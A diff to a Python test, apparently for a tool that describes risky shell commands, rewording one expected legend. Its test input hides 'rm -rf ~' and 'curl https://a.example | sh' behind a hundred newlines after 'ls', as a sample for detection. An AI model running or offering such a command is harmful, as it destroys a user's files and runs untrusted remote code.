@@ -73,7 +73,7 @@ def test_the_words_say_which_and_where() -> None:
     command = "ls" + "\n" * 100 + "; rm -rf ~\ncurl https://a.example | sh"
     assert [legend_words(line) for line in legend_of(command, marks_of(command))] == [
         "Runs code it is given: sh from piped input (line 102)",
-        "Deletes files or changes: rm (line 101)",
+        "Deletes files or discards changes: rm (line 101)",
         "Reaches the network: curl (line 102), a.example (line 102)",
     ]
 
